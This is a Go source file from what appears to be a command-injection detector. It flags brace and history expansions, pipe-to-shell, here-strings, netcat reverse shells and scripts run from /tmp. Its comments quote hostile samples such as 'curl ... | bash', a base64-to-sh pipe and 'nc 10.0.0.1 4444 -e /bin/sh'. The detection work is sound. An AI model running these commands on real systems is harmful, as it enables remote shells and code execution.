package signature

import "strings"

// Shell expansions standing where a command goes, that no text writes
// there: a tilde's directory ("~+", "~-", "~+1": the working, the previous
// and the stacked directories), history events ("!-1!-2": the
// last commands run again), and a word of brace expansion whose first
// word is a command ("{,ifconfig}", "{l,-lh}s" is "ls -lhs", "{id,}",
// "c{a,oun}t" is "cat count").
// The word must be the whole value or follow a command separator (';',
// '|', '&', a line break, '`' or "$("): "~-1 degrees" and "{a,b}" in a
// sentence are no commands.

// expansionWordMax bounds the word read.
const expansionWordMax = 128

var (
	// expansionSeps are the bytes after which a command starts
	expansionSeps   = []byte(";|&\n`(")
	expansionSepSet = byteSet(";|&\n`(")
	// expansionWordEnds end a word: spaces, separators, quotes and
	// redirections
	expansionWordEnds = byteSet(" \t\r\n;|&`()'\"<>")
)

// shellExpansion finds such a word in v and returns its span and rule.
func shellExpansion(v string, m cls) (int, int, string) {
	if i, j, rule := expansionWordAt(v, 0, true); rule != "" {
		return i, j, rule
	}
	if m&(cSemi|cPipe|cAmp|cNL|cBacktick|cDollar) == 0 {
		return -1, -1, ""
	}
	for k := 0; k < len(v); {
		k = nextByte(expansionSeps, &expansionSepSet, v, k) + 1
		if k > len(v) {
			break
		}
		if v[k-1] == '(' && (k < 2 || v[k-2] != '$') {
			continue
		}
		if i, j, rule := expansionWordAt(v, k, false); rule != "" {
			return i, j, rule
		}
	}
	return -1, -1, ""
}

// expansionWordAt reads the word at v[k:] (after spaces and quotes) and
// judges it; first says the word opens the value, which it then must be
// whole.
func expansionWordAt(v string, k int, first bool) (int, int, string) {
	for k < len(v) && (v[k] == ' ' || v[k] == '\t' || v[k] == '\'' || v[k] == '"') {
		k++
	}
	if k >= len(v) {
		return -1, -1, ""
	}
	c := v[k]
	if c != '~' && c != '!' && c != '{' && !isAlnum(c) {
		return -1, -1, ""
	}
	e := k
	for e < len(v) && e-k < expansionWordMax && !expansionWordEnds[v[e]] {
		e++
	}
	if e == k || e-k >= expansionWordMax {
		return -1, -1, ""
	}
	if first {
		// the word is the value, but for a closing quote or spaces
		rest := strings.Trim(v[e:], " \t\r\n'\"")
		if rest != "" {
			return -1, -1, ""
		}
	}
	w := v[k:e]
	switch {
	case tildeWord(w):
		return k, e, "cmdi.expansion"
	case historyWord(w):
		return k, e, "cmdi.expansion"
	case strings.IndexByte(w, '{') >= 0 && braceCommand(w):
		return k, e, "cmdi.obfuscated"
	}
	return -1, -1, ""
}

// tildeWord reports whether w is "~+", "~-", "~+N" or "~-N", or one of
// them with a path after it ("~+/x").
func tildeWord(w string) bool {
	if len(w) < 2 || w[0] != '~' {
		return false
	}
	i := 1
	sign := w[i] == '+' || w[i] == '-'
	if sign {
		i++
	}
	for i < len(w) && w[i] >= '0' && w[i] <= '9' {
		i++
	}
	if !sign {
		return false // "~user", "~/x": a home directory; "~0", "~2": numbers as notes write them
	}
	return i == len(w) || w[i] == '/'
}

// historyWord reports whether w is a run of history events "!-N" or "!!".
func historyWord(w string) bool {
	n := 0
	for i := 0; i < len(w); {
		if w[i] != '!' || i+1 >= len(w) {
			return false
		}
		switch {
		case w[i+1] == '!':
			i += 2
		case w[i+1] == '-':
			j := i + 2
			for j < len(w) && w[j] >= '0' && w[j] <= '9' {
				j++
			}
			if j == i+2 {
				return false
			}
			i = j
		default:
			return false
		}
		n++
	}
	return n > 0 && w != "!!"
}

// braceCommand reports whether the word w, expanded as bash expands its
// first brace group (prefix, each alternative, suffix; empty words
// dropped), runs a command: its first word names one that is no English
// word ("ls", "ifconfig", "id"), or an English one with an option or a
// path after it, or spliced around the group or behind an empty
// alternative.
func braceCommand(w string) bool {
	o := strings.IndexByte(w, '{')
	c := strings.IndexByte(w[o+1:], '}')
	if c < 0 {
		return false
	}
	c += o + 1
	inner := w[o+1 : c]
	if strings.IndexByte(inner, ',') < 0 || strings.ContainsAny(inner, "{$") {
		return false
	}
	pre, suf := w[:o], w[c+1:]
	var words []string
	for _, alt := range strings.Split(inner, ",") {
		if x := pre + alt + suf; x != "" {
			words = append(words, strings.ToLower(x))
		}
	}
	if len(words) == 0 {
		return false
	}
	switch commandClasses[words[0]] {
	case cmdName, cmdProbe:
		return true
	case cmdWord:
		if pre != "" && suf != "" || inner[0] == ',' {
			// the name spliced around the group ("c{a,oun}t" is "cat
			// count") or behind an empty alternative ("{,ip,a}" is "ip
			// a"): a word written to hide a command, which no sentence's
			// "{cat,dog}" is
			return true
		}
		for _, a := range words[1:] {
			if a[0] == '-' || a[0] == '/' {
				return true
			}
		}
	}
	return false
}

// pipeShells are the shells and interpreters a pipe feeds a script to.
var pipeShells = []string{"sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcsh", "busybox sh"}

// pipeToShell finds "| sh" (or another shell) ending a command line: what
// came before the pipe is run as a script ("printf ... | rev | sh",
// "curl http://x/s | bash", "echo aWQ= | base64 -d | sh"). The shell must
// end the value or its command (';', '&', ')', '`', a line break or a
// comment come next), with nothing but its "-s" or "-" after it, and a
// command must stand before the pipe: a word, a quote or a path, or a
// byte past ASCII (a curly quote's, "sed ‘s/x/y/g’ | bash").
func pipeToShell(v string) (int, int, bool) {
	for k := 0; k < len(v); {
		p := strings.IndexByte(v[k:], '|')
		if p < 0 {
			return 0, 0, false
		}
		p += k
		k = p + 1
		if p == 0 || k < len(v) && v[k] == '|' {
			k++
			continue // "||": an or, not a pipe
		}
		b := p - 1
		for b >= 0 && (v[b] == ' ' || v[b] == '\t') {
			b--
		}
		if b < 0 || !(isAlnum(v[b]) || v[b] == '\'' || v[b] == '"' || v[b] == '=' || v[b] == '/' || v[b] >= 0x80) {
			continue
		}
		s := k
		for s < len(v) && (v[s] == ' ' || v[s] == '\t') {
			s++
		}
		if s < len(v) && v[s] == '/' {
			// /bin/sh, /usr/bin/bash
			e := s
			for e < len(v) && v[e] != ' ' && v[e] != ';' && v[e] != '&' && v[e] != '|' {
				e++
			}
			if l := strings.LastIndexByte(v[s:e], '/'); l >= 0 {
				s += l + 1
			}
		}
		for _, sh := range pipeShells {
			if !hasPrefixFold(v[s:], sh) {
				continue
			}
			e := s + len(sh)
			if e < len(v) && isWord(v[e]) {
				continue // "| shows", "| bashful"
			}
			r := e
			for r < len(v) && (v[r] == ' ' || v[r] == '\t') {
				r++
			}
			if strings.HasPrefix(v[r:], "-s") || strings.HasPrefix(v[r:], "- ") || r+1 == len(v) && v[r] == '-' {
				r += 2
				for r < len(v) && (v[r] == ' ' || v[r] == '\t') {
					r++
				}
			}
			if r >= len(v) || strings.IndexByte(";&)`\n\r", v[r]) >= 0 || r > e && v[r] == '#' {
				return p, e, true // "#" after a blank: a comment to the line's end
			}
		}
	}
	return 0, 0, false
}

// hereString finds a here-string, "cmd<<<word": the shell feeds the word
// to the command's input ("`cat<<<sh -c whoami`" prints a command line
// for the backticks to run). The word before "<<<" must name a command;
// CUDA's "kernel<<<grid, block>>>" names none.
func hereString(v string) (int, int, bool) {
	for k := 0; k < len(v); {
		p := strings.Index(v[k:], "<<<")
		if p < 0 {
			return 0, 0, false
		}
		p += k
		k = p + 3
		b := p
		for b > 0 && (v[b-1] == ' ' || v[b-1] == '\t') {
			b--
		}
		s := b
		for s > 0 && b-s < 40 && (isAlnum(v[s-1]) || v[s-1] == '-' || v[s-1] == '_') {
			s--
		}
		if s == b || s > 0 && (isAlnum(v[s-1]) || v[s-1] == '.') {
			continue
		}
		var stack [40]byte
		if c := commandClasses[string(lower(stack[:0], v[s:b]))]; c == cmdUnknown {
			continue
		}
		if k < len(v) && (v[k] == '<' || v[k] == '=') {
			continue
		}
		return s, k, true
	}
	return 0, 0, false
}

// pathExpansion finds such a word as a whole segment of a URL path
// ("/x/~-1", "/x/!-1!-2", "/x/{id,}"): a segment holds one word, and a
// server that hands a segment to a shell runs it.
func pathExpansion(v string) (int, int, string) {
	for k := 0; k < len(v); {
		s := strings.IndexByte(v[k:], '/')
		if s < 0 {
			break
		}
		s += k + 1
		e := strings.IndexByte(v[s:], '/')
		if e < 0 {
			e = len(v)
		} else {
			e += s
		}
		k = e
		if e == s || e-s >= expansionWordMax {
			continue
		}
		switch w := v[s:e]; {
		case w[0] == '~' && tildeWord(w), w[0] == '!' && historyWord(w):
			return s, e, "cmdi.expansion"
		case strings.IndexByte(w, '{') >= 0 && !strings.ContainsAny(w, " \t;|&`()'\"<>") && braceCommand(w):
			return s, e, "cmdi.obfuscated"
		}
	}
	return -1, -1, ""
}

// netcatSeps end a command for netcatShell.
var netcatSeps = byteSet(";|&\n\r`")

// netcatShell finds netcat handing a shell to a connection, wherever it
// stands in a value: "nc 10.0.0.1 4444 -e /bin/sh", "ncat -e cmd.exe
// host 443", the reverse shell a payload runs once it reaches any
// command position (behind a SQLite ".shell", a template, a quote the
// other readers do not follow). On one line or command of the value: a
// word nc, ncat or netcat (or a path ending in one), then among its
// arguments an -e or -c whose argument is a shell, and a port number.
func netcatShell(v string) (int, int, bool) {
	if len(v) < len("nc h 1 -e sh") || !blankOption(v) {
		return 0, 0, false
	}
	for off := 0; off < len(v); {
		end := off
		for end < len(v) && end-off < 512 && !netcatSeps[v[end]] {
			end++
		}
		seg, at := v[off:end], off
		off = end + 1
		// the first netcat of the command: a later one's arguments are
		// some of its
		var w string
		k := 0
		for {
			var i int
			if w, i, k = nextField(seg, k); w == "" {
				break
			}
			n := strings.Trim(w, "'\"(")
			n = n[strings.LastIndexByte(n, '/')+1:]
			if !equalFold(n, "nc") && !equalFold(n, "ncat") && !equalFold(n, "netcat") {
				continue
			}
			shell, port, dash := false, false, false
			for {
				if w, _, k = nextField(seg, k); w == "" {
					break
				}
				switch {
				case dash:
					shell, dash = shell || shellName(w), false
					continue
				case w == "-e" || w == "-c":
					dash = true
				case strings.HasPrefix(w, "-e") || strings.HasPrefix(w, "-c"):
					shell = shell || shellName(w[2:])
				default:
					port = port || portNumber(w)
				}
			}
			if shell && port {
				return at + i, at + len(seg), true
			}
			break
		}
	}
	return 0, 0, false
}

// blankOption reports whether v holds " -e" or " -c": one pass.
func blankOption(v string) bool {
	for k := 1; k < len(v)-1; {
		i := strings.IndexByte(v[k:len(v)-1], '-')
		if i < 0 {
			return false
		}
		k += i + 1
		if v[k-2] == ' ' && (v[k] == 'e' || v[k] == 'c') {
			return true
		}
	}
	return false
}

// nextField returns the next word of s from k on (bytes between blanks),
// where it starts, and where to go on; "" at the end.
func nextField(s string, k int) (string, int, int) {
	for k < len(s) && (s[k] == ' ' || s[k] == '\t' || s[k] == '\v' || s[k] == '\f') {
		k++
	}
	i := k
	for k < len(s) && s[k] != ' ' && s[k] != '\t' && s[k] != '\v' && s[k] != '\f' {
		k++
	}
	return s[i:k], i, k
}

// portNumber reports whether w is a TCP port number, 1 to 65535.
func portNumber(w string) bool {
	if len(w) == 0 || len(w) > 5 {
		return false
	}
	n := 0
	for k := 0; k < len(w); k++ {
		if w[k] < '0' || w[k] > '9' {
			return false
		}
		n = n*10 + int(w[k]-'0')
	}
	return n > 0 && n < 65536
}

// shellName reports whether w names a shell, with or without its
// directory: sh, bash, /bin/sh, cmd.exe, powershell.
func shellName(w string) bool {
	w = strings.Trim(w, "'\"")
	if s := strings.LastIndexAny(w, "/\\"); s >= 0 {
		w = w[s+1:]
	}
	w = strings.TrimSuffix(strings.ToLower(w), ".exe")
	switch w {
	case "sh", "bash", "zsh", "ksh", "dash", "ash", "csh", "tcsh", "cmd", "powershell", "pwsh":
		return true
	}
	return false
}

// tmpDirs are the directories anyone can write to, where a dropper puts
// the script it then runs.
var tmpDirs = [...]string{"/tmp/", "/var/tmp/", "/dev/shm/"}

// tmpExec finds a file run from a directory anyone can write to, in a
// command's position: after ';' or "$(", glued to a '|' or '&', or after
// "||" or "&&", the path itself is the command ("|echo;/./tmp/x.sh;echo|",
// the awstats exploit's stage two; "; /var/tmp/.x &"). A path to such a
// file named as a value, in a sentence, in a Markdown table's cell or
// code span, is no command.
func tmpExec(v string) (int, int, bool) {
	for k := 0; k < len(v); {
		i := strings.IndexByte(v[k:], '/')
		if i < 0 {
			return 0, 0, false
		}
		i += k
		k = i + 1
		b := i - 1
		for b >= 0 && (v[b] == ' ' || v[b] == '\t') {
			b--
		}
		if b < 0 {
			continue
		}
		switch c := v[b]; {
		case c == ';', c == '(' && b > 0 && v[b-1] == '$':
		case (c == '|' || c == '&') && (b == i-1 || b > 0 && v[b-1] == c):
			// glued to a pipe or an '&' ("|/tmp/x"), or after "||" or
			// "&&": a Markdown table's "| /tmp/x |" is a cell
		default:
			continue // a backtick opens Markdown's code span as often as a substitution
		}
		e := i
		for e < len(v) && e-i < 256 && !expansionWordEnds[v[e]] {
			e++
		}
		p := cleanSlashes(v[i:e])
		for _, d := range tmpDirs {
			if len(p) > len(d) && p[:len(d)] == d && p[len(p)-1] != '/' {
				return i, e, true
			}
		}
	}
	return 0, 0, false
}

// cleanSlashes folds the runs of '/' and the "/./" steps of a short path
// ("/./tmp//x" is "/tmp/x"), as the kernel resolves them.
func cleanSlashes(p string) string {
	if !strings.Contains(p, "//") && !strings.Contains(p, "/./") && !strings.HasSuffix(p, "/.") {
		return p
	}
	var buf [256]byte
	out := buf[:0]
	for j := 0; j < len(p); j++ {
		switch {
		case p[j] == '/' && len(out) > 0 && out[len(out)-1] == '/':
			continue
		case p[j] == '.' && len(out) > 0 && out[len(out)-1] == '/' && (j+1 == len(p) || p[j+1] == '/'):
			j++ // "./": nothing
			continue
		}
		out = append(out, p[j])
	}
	return string(out)
}
